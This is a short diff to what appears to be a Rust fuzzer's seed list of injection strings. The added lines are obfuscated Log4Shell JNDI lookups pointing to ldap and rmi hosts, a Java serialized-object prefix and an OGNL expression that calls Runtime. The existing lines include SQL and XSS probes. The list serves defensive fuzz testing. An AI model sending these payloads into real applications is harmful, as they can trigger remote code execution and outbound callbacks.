@@ -44,6 +44,10 @@ const SEEDS: &[&str] = &[
     "/*!50000select*/",
     "<!--<svg/onload=alert(1)>-->",
     "'\"`;|&<>(){}[]\\/%#",
+    "${${lower:j}${::-n}di:ldap://${env:x:-y}.e/a}",
+    "${${::-${::-$}}{jndi:rmi://e/a}",
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+    "%{(#_memberAccess).(@java.lang.Runtime@getRuntime())}",
 ];
 
 /// Bytes that steer the tokenizers into their less common states.
